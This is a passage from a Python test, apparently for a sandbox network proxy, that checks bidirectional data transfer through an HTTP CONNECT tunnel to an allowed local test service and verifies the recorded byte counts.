        c.shutdown(socket.SHUT_WR)
        c.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    pol = net_policy(tmp_path, [f"svc.test:{port}"])
    code = ("import hashlib, random, socket, threading\n"
            "size = %d\n"
            "up = random.Random(1).randbytes(size)\n"
            "s = socket.create_connection(('127.0.0.1', 3128), timeout=60)\n"
            "s.sendall(b'CONNECT svc.test:%d HTTP/1.1\\r\\n\\r\\n')\n"
            "h = b''\n"
            "while b'\\r\\n\\r\\n' not in h: h += s.recv(1)\n"
            "threading.Thread(target=s.sendall, args=(up,)).start()\n"
            "buf = bytearray()\n"
            "while True:\n"
            "    d = s.recv(1 << 20)\n"
            "    if not d: break\n"
            "    buf += d\n"
            "print('DOWN', hashlib.sha256(buf).hexdigest(), len(buf))\n") % (size, port)
    r = harness.py(code, opts=("--policy", pol), timeout=120)
    t.join(timeout=60)
    srv.close()
    assert got.get("up") == hashlib.sha256(up).hexdigest(), (got, r)
    assert f"DOWN {hashlib.sha256(down).hexdigest()} {size}" in r.out, r
    close = records(harness, "net.close")
    assert close and close[0]["metadata"]["bytes_up"] == size, close
    assert close[0]["metadata"]["bytes_down"] == size, close
